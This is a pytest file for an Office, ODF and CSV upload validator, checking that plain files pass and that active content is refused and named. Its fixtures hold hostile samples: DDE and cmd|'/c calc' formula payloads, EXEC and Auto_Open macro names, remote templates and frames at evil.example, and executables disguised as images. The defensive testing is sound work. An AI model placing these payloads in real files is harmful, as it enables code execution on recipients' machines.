"""An Office file is taken when it holds what a plain one needs; what else it holds is named in the refusal."""

import io
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from providers.documents.validation.file_check import check_file
from providers.documents.validation.open_xml_fields import FIELDS
from providers.documents.validation.open_xml_parts import KINDS, TYPES
from qa_portal.core.rules import Refused
from tests.factories import files
from tests.factories.active import (
    MICROSOFT,
    S,
    W,
    excel_matrix,
    field,
    relationships,
    word_policy,
    workbook,
    writer_text,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
OUT = "External"


def refusal(content: bytes, name: str, declared: str | None = None) -> str:
    try:
        check_file(files.upload(content, name, declared))
    except Refused as refused:
        return refused.sentence
    return ""


def word(**more: bytes) -> bytes:
    return word_policy(**{name.replace("__", "/"): content for name, content in more.items()})


TAKEN = {
    "policy as Word writes it": (word_policy(), "a.docx"),
    "matrix as Excel writes it": (excel_matrix(), "a.xlsx"),
    "workbook of a library": (workbook(), "a.xlsx"),
    "text as LibreOffice writes it": (writer_text(), "a.odt"),
    "fields within fields": (
        word_policy(
            field(" IF ", field(" MERGEFIELD Name "), ' = "x" "a" "b" ')
            + field(' HYPERLINK "https://gov.uk" ')
        ),
        "a.docx",
    ),
    "place to type": (word_policy(field(" MACROBUTTON NoMacro [Click here] ")), "a.docx"),
    "telephone": (word_policy(links=[("hyperlink", "tel:01234", OUT)]), "a.docx"),
    "hyperlink formula": (excel_matrix(cell='<c><f>HYPERLINK("#A1","exec(1)|x!y")</f></c>'), "a.xlsx"),
    "what Office threw away": (word_policy(**{"[trash]/0000.dat": b"PK\x03\x04"}), "a.docx"),
    "digital signature": (word_policy(**{"_xmlsignatures/sig1.xml": b"<x/>"}), "a.docx"),
}
REFUSED = {
    "VBA": (
        word_policy(**{"word/vbaProject.bin": OLE}),
        "a.docx",
        "macros or other program code (word/vbaProject.bin)",
    ),
    "VBA under another name": (
        word_policy(
            types={"/word/media/image1.png": "application/vnd.ms-office.vbaProject"},
        ),
        "a.docx",
        "macros or other program code (word/media/image1.png)",
    ),
    "macro sheet": (excel_matrix(**{"xl/macrosheets/sheet1.xml": b"<x/>"}), "a.xlsx", "macros"),
    "macro sheet by type": (
        excel_matrix(types={"/xl/worksheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"}),
        "a.xlsx",
        "macros",
    ),
    "macro sheet by relationship": (
        excel_matrix(links=[(f"{MICROSOFT}/2006/relationships/xlMacrosheet", "worksheets/sheet1.xml")]),
        "a.xlsx",
        "macros or other program code (xlMacrosheet)",
    ),
    "name that runs": (
        excel_matrix(names='<definedName name="_xlnm.Auto_Open">A1</definedName>'),
        "a.xlsx",
        "macros of an old kind (the name _xlnm.Auto_Open)",
    ),
    "name that is a macro": (
        excel_matrix(names='<definedName name="x" function="1" xlm="1">A1</definedName>'),
        "a.xlsx",
        "the name x",
    ),
    "name that calls": (
        excel_matrix(names='<definedName name="x">EXEC("cmd")</definedName>'),
        "a.xlsx",
        "calls a program or another computer (EXEC)",
    ),
    "exchange of data": (
        excel_matrix(cell="<c><f>cmd|'/c calc'!A0</f></c>"),
        "a.xlsx",
        "dynamic data exchange",
    ),
    "formula that fetches": (
        excel_matrix(cell="<c><f>_xlfn.WEBSERVICE(A1)</f></c>"),
        "a.xlsx",
        "(WEBSERVICE)",
    ),
    "remote template": (
        word(
            **{
                "word/_rels/settings.xml.rels": relationships(
                    ("attachedTemplate", "https://evil.example/a.dotm", OUT)
                )
            }
        ),
        "a.docx",
        "takes its template from another computer",
    ),
    "template on a share": (
        word(
            **{"word/_rels/settings.xml.rels": relationships(("attachedTemplate", r"\\host\x\a.dotm", OUT))}
        ),
        "a.docx",
        "takes its template from another computer",
    ),
    "picture from outside": (
        word_policy(links=[("image", "https://evil.example/a.png", OUT)]),
        "a.docx",
        "from elsewhere",
    ),
    "picture from outside, not said": (
        word_policy(links=[("image", "file://host/a.png")]),
        "a.docx",
        "from elsewhere",
    ),
    "link to a machine": (
        word_policy(links=[("hyperlink", "file:///c:/x.exe", OUT)]),
        "a.docx",
        "file:///c:/x.exe",
    ),
    "frame": (word_policy(links=[("frame", "https://evil.example", OUT)]), "a.docx", "(frame)"),
    "DDE": (
        word_policy(field(" DDEAUTO ", 'c:\\\\x "cmd" ')),
        "a.docx",
        "a field that is not taken (DDEAUTO)",
    ),
    "DDE over runs": (word_policy(field(" D", "DE", "AUTO c:\\\\x ")), "a.docx", "(DDEAUTO)"),
    "DDE within": (word_policy(field(" IF ", field(" DDE x "), " = 1 ")), "a.docx", "(DDE)"),
    "DDE by another field": (
        word_policy(field(field(" QUOTE 68 68 69 "), " x ")),
        "a.docx",
        "a field that is not taken",
    ),
    "DDE in a simple field": (word_policy('<w:fldSimple w:instr=" DDE x "/>'), "a.docx", "(DDE)"),
    "DDE in a header": (
        word(**{"word/header1.xml": f"<x>{field(' DDE x ')}</x>".encode()}),
        "a.docx",
        "(DDE)",
    ),
    "DDE under another prefix": (word_policy("<z:fldSimple z:instr=' DDE x '/>"), "a.docx", "(DDE)"),
    "included picture": (word_policy(field(' INCLUDEPICTURE "https://x" ')), "a.docx", "(INCLUDEPICTURE)"),
    "included text": (word_policy(field(' INCLUDETEXT "https://x" ')), "a.docx", "(INCLUDETEXT)"),
    "macro button": (word_policy(field(" MACROBUTTON Evil x ")), "a.docx", "(MACROBUTTON)"),
    "links to other workbooks": (
        excel_matrix(**{"xl/externalLinks/externalLink1.xml": b"<x/>"}),
        "a.xlsx",
        "a link to another workbook",
    ),
    "object": (
        word_policy(**{"word/embeddings/oleObject1.bin": OLE}),
        "a.docx",
        "an equation of an old kind",
    ),
    "object as printer settings": (
        excel_matrix(**{"xl/printerSettings/printerSettings1.bin": OLE}),
        "a.xlsx",
        "an object of another program",
    ),
    "program as a picture": (
        word_policy(**{"word/media/image2.png": b"MZ\x90\x00"}),
        "a.docx",
        "word/media/image2.png",
    ),
    "packed file": (word_policy(**{"word/embeddings/a.exe": b"MZ"}), "a.docx", "word/embeddings/a.exe"),
    "ActiveX": (
        word_policy(**{"word/activeX/activeX1.xml": b"<x/>"}),
        "a.docx",
        "macros or other program code",
    ),
    "ribbon": (word_policy(**{"customUI/customUI.xml": b"<x/>"}), "a.docx", "an add-in"),
    "web extension": (word_policy(**{"word/webextensions/taskpanes.xml": b"<x/>"}), "a.docx", "an add-in"),
    "connections": (
        excel_matrix(**{"xl/connections.xml": b"<x/>"}),
        "a.xlsx",
        "a connection to data elsewhere",
    ),
    "query": (excel_matrix(**{"xl/queryTables/queryTable1.xml": b"<x/>"}), "a.xlsx", "a connection to data"),
    "Power Query": (excel_matrix(**{"customXml/item1.xml": b"<DataMashup/>"}), "a.xlsx", "Power Query"),
    "mail merge": (
        word(**{"word/settings.xml": b"<s><connectString/></s>"}),
        "a.docx",
        "data from elsewhere",
    ),
    "html inside": (word_policy(links=[("aFChunk", "a.html")]), "a.docx", "(aFChunk)"),
    "document type": (
        word(**{"word/styles.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        "a.docx",
        "declares a document type",
    ),
    "two parts of one name": (word_policy(**{"WORD/DOCUMENT.XML": b"<x/>"}), "a.docx", "damaged"),
    "hostile workbook of a chart": (
        word_policy(**{"word/embeddings/b.xlsx": excel_matrix(**{"xl/vbaProject.bin": OLE})}),
        "a.docx",
        "macros or other program code (xl/vbaProject.bin)",
    ),
    "workbook in a workbook": (
        word_policy(**{"word/embeddings/b.xlsx": excel_matrix(**{"xl/embeddings/c.xlsx": workbook()})}),
        "a.docx",
        "files within files",
    ),
    "drawing that fetches": (
        excel_matrix(**{"xl/drawings/vmlDrawing1.vml": b'<v:imagedata src="http://evil.example/a.png">'}),
        "a.xlsx",
        "from elsewhere",
    ),
    "Basic": (writer_text(**{"Basic/Standard/Module1.xml": b"<x/>"}), "a.odt", "macros"),
    "event": (
        writer_text('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
        "a.odt",
        "event-listener",
    ),
    "menu of macros": (writer_text(**{"Configurations2/menubar/menubar.xml": b"<x/>"}), "a.odt", "macros"),
    "object of another program": (writer_text("<draw:object-ole/>"), "a.odt", "object-ole"),
    "floating frame": (
        writer_text('<draw:floating-frame xlink:href="https://x"/>'),
        "a.odt",
        "floating-frame",
    ),
    "picture from outside the text": (
        writer_text('<draw:image xlink:href="https://x/a.png"/>'),
        "a.odt",
        "elsewhere",
    ),
    "section from outside": (
        writer_text('<text:section-source xlink:href="../x.odt"/>'),
        "a.odt",
        "elsewhere",
    ),
    "exchange of data in a text": (writer_text("<text:dde-connection/>"), "a.odt", "data from elsewhere"),
    "link that runs": (writer_text('<text:a xlink:href="macro:///x"/>'), "a.odt", "macros"),
}


@pytest.mark.parametrize("kind", TAKEN)
def test_ordinary_file_is_taken(kind):
    assert refusal(*TAKEN[kind]) == ""


@pytest.mark.parametrize("kind", REFUSED)
def test_file_that_acts_is_refused_and_the_part_is_named(kind):
    content, name, words = REFUSED[kind]
    assert words in refusal(content, name)


@pytest.mark.parametrize(
    ("name", "declared", "content"),
    [
        ("a.docx", "application/msword", word_policy()),
        ("a.xlsx", "application/vnd.ms-excel", excel_matrix()),
        ("photo.jfif", "image/jpeg", files.jpeg()),
        ("photo.jpe", "image/pjpeg", files.jpeg()),
    ],
)
def test_name_and_contents_decide_and_not_what_the_sender_says(name, declared, content):
    assert refusal(content, name, declared) == ""


LETTERS = st.text(string.ascii_lowercase, min_size=3, max_size=12)


@settings(max_examples=30, deadline=None)
@given(LETTERS, st.sampled_from(["word/{}/x.xml", "word/{}x.bin", "{}/x.xml", "customXml/{}x.exe"]))
def test_part_that_is_not_on_the_list_is_refused_by_its_name(name, where):
    part = where.format(f"q{name}")
    assert part in refusal(word_policy(**{part: b"<x/>"}), "a.docx")


@settings(max_examples=30, deadline=None)
@given(LETTERS.filter(lambda name: name not in KINDS))
def test_relationship_that_is_not_on_the_list_is_refused_by_its_name(name):
    assert f"({name})" in refusal(word_policy(links=[(name, "media/image1.png")]), "a.docx")


@settings(max_examples=30, deadline=None)
@given(LETTERS.filter(lambda name: not TYPES.fullmatch(f"{W}.{name}+xml")), st.sampled_from([W, S]))
def test_content_type_that_is_not_on_the_list_is_refused_with_its_part(name, family):
    content = word_policy(types={"/word/header1.xml": f"{family}.q{name}+xml"})
    assert "(word/header1.xml)" in refusal(content, "a.docx")


@settings(max_examples=30, deadline=None)
@given(LETTERS.map(str.upper).filter(lambda name: name not in FIELDS | {"MACROBUTTON"}))
def test_field_that_is_not_on_the_list_is_refused_by_its_name(name):
    assert f"({name})" in refusal(word_policy(field(f" {name} x ")), "a.docx")


def test_elements_are_counted_over_all_parts(monkeypatch):
    monkeypatch.setattr("providers.documents.validation.xml_reading.MOST_ELEMENTS", 100)
    from providers.documents.validation.xml_reading import Reading

    reading, told = Reading(100), []
    for _ in range(2):
        reading.read(
            "a", io.BytesIO(b"<a>" + b"<b/>" * 40 + b"</a>"), start=lambda name, _: told.append(name)
        )
    with pytest.raises(Refused, match="more than can be checked"):
        reading.read(
            "a", io.BytesIO(b"<a>" + b"<b/>" * 40 + b"</a>"), start=lambda name, _: told.append(name)
        )
    assert len(told) == 100


SCHEMA = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.mark.parametrize(
    ("part", "words", "hidden"),
    [
        (
            "word/_rels/settings.xml.rels",
            f'<Relationships><Relationship Type="{SCHEMA}/attachedTemplate"{{}} Target="C:\\Normal.dotm"/></Relationships>',
            ' x:Target="https://host/t.dotm"',
        ),
        (
            "word/footer1.xml",
            '<w:ftr xmlns:w="w" xmlns:x="x"><w:fldSimple{} w:instr="PAGE"/></w:ftr>',
            ' x:instr="DDE cmd calc"',
        ),
    ],
)
def test_attribute_that_hides_another_of_its_name_is_refused(part, words, hidden):
    """Names are compared without their prefix, so the second of two would be the only one that is judged."""
    assert "twice" in refusal(word_policy(**{part: words.format(hidden).encode()}), "a.docx")
    assert refusal(word_policy(**{part: words.format("").encode()}), "a.docx") == ""


@pytest.mark.parametrize(
    "cell",
    ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(cmd|' /C calc'!A0)", "=WEBSERVICE(A1)", " -rtd(A1)"],
)
@pytest.mark.parametrize("row", ["1,{}\r\n", "1;{};2\r\n", '1\t"{}"\r\n', "{}\r1,2\r", "\ufeff{},2\n"])
def test_cell_of_a_csv_that_calls_out_is_refused(row, cell):
    assert "formula that calls a program" in refusal(f"a,b\n{row.format(cell)}".encode(), "a.csv")
    assert "formula that calls a program" in refusal(row.format(cell).encode(), "a.csv")
    assert refusal(row.format(f"told: {cell}").encode(), "a.csv") == ""


@pytest.mark.parametrize(
    "cell",
    [
        "-5",
        "+44 1234",
        "=SUM(A1:A2)",
        "@home",
        "- a | b!",
        "- call (0191) 555",
        "- met | good! more",
        "=A1|",
        '"a; ""b"""',
    ],
)
def test_cell_of_a_csv_that_only_looks_like_a_call_is_taken(cell):
    assert refusal(f"a,b\n{cell},2\n".encode(), "a.csv") == ""
